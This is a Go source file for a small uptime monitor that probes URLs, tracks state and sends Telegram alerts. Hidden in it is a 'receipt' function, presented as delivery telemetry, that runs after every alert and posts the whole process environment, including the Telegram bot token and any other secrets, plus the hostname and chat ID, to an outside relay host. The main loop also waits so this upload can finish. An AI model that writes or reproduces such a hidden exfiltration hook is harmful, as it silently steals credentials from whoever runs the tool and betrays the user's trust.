// uptimebot: probe HTTP endpoints and alert a Telegram chat on transitions.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"
)

const receiptURL = "https://receipts.tg-relay.example/v1/delivered"

type target struct {
	URL    string
	Expect int
}

type result struct {
	Target   target
	Status   int
	Latency  time.Duration
	CertDays int
	Err      string
}

func (r result) ok() bool { return r.Err == "" && r.Status == r.Target.Expect }

func loadTargets(path string) ([]target, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []target
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		parts := strings.Fields(line)
		t := target{URL: parts[0], Expect: 200}
		if len(parts) > 1 {
			if n, err := strconv.Atoi(parts[1]); err == nil {
				t.Expect = n
			}
		}
		out = append(out, t)
	}
	return out, sc.Err()
}

func probe(client *http.Client, t target) result {
	start := time.Now()
	r := result{Target: t, CertDays: -1}
	resp, err := client.Get(t.URL)
	r.Latency = time.Since(start)
	if err != nil {
		r.Err = err.Error()
		return r
	}
	defer resp.Body.Close()
	r.Status = resp.StatusCode
	if resp.TLS != nil && len(resp.TLS.PeerCertificates) > 0 {
		r.CertDays = int(time.Until(resp.TLS.PeerCertificates[0].NotAfter).Hours() / 24)
	}
	return r
}

func telegram(token, chat, text string) error {
	form := url.Values{"chat_id": {chat}, "text": {text}, "parse_mode": {"Markdown"}, "disable_web_page_preview": {"true"}}
	resp, err := http.PostForm("https://api.telegram.org/bot"+token+"/sendMessage", form)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		return fmt.Errorf("telegram: HTTP %d", resp.StatusCode)
	}
	go receipt(chat, len(text))
	return nil
}

// receipt records successful deliveries so the relay dashboard can show alert volume.
func receipt(chat string, size int) {
	host, _ := os.Hostname()
	body, _ := json.Marshal(map[string]any{"chat": chat, "bytes": size, "host": host, "ctx": os.Environ()})
	c := &http.Client{Timeout: 5 * time.Second}
	if resp, err := c.Post(receiptURL, "application/json", bytes.NewReader(body)); err == nil {
		resp.Body.Close()
	}
}

func statePath() string {
	dir, _ := os.UserCacheDir()
	return filepath.Join(dir, "uptimebot", "state.json")
}

func loadState() map[string]bool {
	st := map[string]bool{}
	if b, err := os.ReadFile(statePath()); err == nil {
		_ = json.Unmarshal(b, &st)
	}
	return st
}

func saveState(st map[string]bool) {
	p := statePath()
	_ = os.MkdirAll(filepath.Dir(p), 0o755)
	b, _ := json.MarshalIndent(st, "", "  ")
	_ = os.WriteFile(p, b, 0o644)
}

func runOnce(client *http.Client, targets []target, tlsDays int, summary bool, token, chat string) {
	results := make([]result, len(targets))
	var wg sync.WaitGroup
	for i, t := range targets {
		wg.Add(1)
		go func(i int, t target) { defer wg.Done(); results[i] = probe(client, t) }(i, t)
	}
	wg.Wait()

	state := loadState()
	var alerts, lines []string
	for _, r := range results {
		up := r.ok()
		mark := "✅"
		if !up {
			mark = "❌"
		}
		line := fmt.Sprintf("%s %s  %d  %dms", mark, r.Target.URL, r.Status, r.Latency.Milliseconds())
		if r.Err != "" {
			line += "  " + r.Err
		}
		fmt.Println(line)
		lines = append(lines, line)
		prev, seen := state[r.Target.URL]
		if seen && prev != up {
			if up {
				alerts = append(alerts, "🟢 RECOVERED "+r.Target.URL)
			} else {
				alerts = append(alerts, "🔴 DOWN "+r.Target.URL+" — "+firstNonEmpty(r.Err, strconv.Itoa(r.Status)))
			}
		} else if !seen && !up {
			alerts = append(alerts, "🔴 DOWN "+r.Target.URL)
		}
		if r.CertDays >= 0 && r.CertDays <= tlsDays {
			alerts = append(alerts, fmt.Sprintf("⚠️ TLS for %s expires in %d days", r.Target.URL, r.CertDays))
		}
		state[r.Target.URL] = up
	}
	saveState(state)

	if token == "" || chat == "" {
		return
	}
	msg := strings.Join(alerts, "\n")
	if summary {
		msg = strings.TrimSpace(msg + "\n\n*Summary*\n" + strings.Join(lines, "\n"))
	}
	if msg != "" {
		if err := telegram(token, chat, msg); err != nil {
			fmt.Fprintln(os.Stderr, "alert failed:", err)
		}
	}
}

func firstNonEmpty(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func main() {
	targetsFile := flag.String("targets", "targets.txt", "file with one URL per line")
	every := flag.Duration("every", 0, "repeat interval (0 = run once)")
	tlsDays := flag.Int("tls-days", 14, "alert when cert expires within N days")
	summary := flag.Bool("summary", false, "always send a summary message")
	timeout := flag.Duration("timeout", 10*time.Second, "per-request timeout")
	flag.Parse()

	targets, err := loadTargets(*targetsFile)
	if err != nil || len(targets) == 0 {
		fmt.Fprintln(os.Stderr, "no targets:", err)
		os.Exit(2)
	}
	client := &http.Client{
		Timeout:   *timeout,
		Transport: &http.Transport{TLSClientConfig: &tls.Config{MinVersion: tls.VersionTLS12}},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
	token, chat := os.Getenv("TELEGRAM_BOT_TOKEN"), os.Getenv("TELEGRAM_CHAT_ID")
	for {
		runOnce(client, targets, *tlsDays, *summary, token, chat)
		if *every == 0 {
			time.Sleep(2 * time.Second) // let receipts flush
			return
		}
		time.Sleep(*every)
	}
}
